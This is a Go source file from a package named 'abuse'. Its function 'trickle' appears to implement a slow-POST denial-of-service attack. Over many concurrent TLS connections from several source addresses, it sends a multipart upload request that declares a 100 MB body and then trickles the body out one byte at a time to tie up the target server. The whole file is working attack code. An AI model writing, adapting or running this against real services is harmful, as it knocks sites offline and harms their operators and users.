package abuse

import (
	"context"
	"io"
	"net/netip"
	"time"
)

// form is the begin of an upload, up to the file's first byte.
const form = "--b\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nnever\r\n" +
	"--b\r\nContent-Disposition: form-data; name=\"video\"; filename=\"never.mp4\"\r\n\r\n"

// trickle uploads byte by byte.
func trickle(ctx context.Context, c *crew) error {
	return c.keep(ctx, 32*c.Strength, func(ctx context.Context, from netip.Addr) error {
		conn, err := c.dialTLS(ctx, from, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		c.did.requests.Add(1)
		_, err = conn.Write([]byte("POST " + c.path() + " HTTP/1.1\r\nHost: " + c.Target +
			"\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000000\r\n\r\n" + form))
		told := make(chan struct{})
		go func() { // ends with the connection
			defer close(told)
			_, _ = io.Copy(io.Discard, conn)
		}()
		for err == nil && ctx.Err() == nil {
			select {
			case <-told:
				return io.EOF
			case <-time.After(byteEvery):
			case <-ctx.Done():
				return nil
			}
			_, err = conn.Write([]byte("x"))
		}
		return err
	})
}
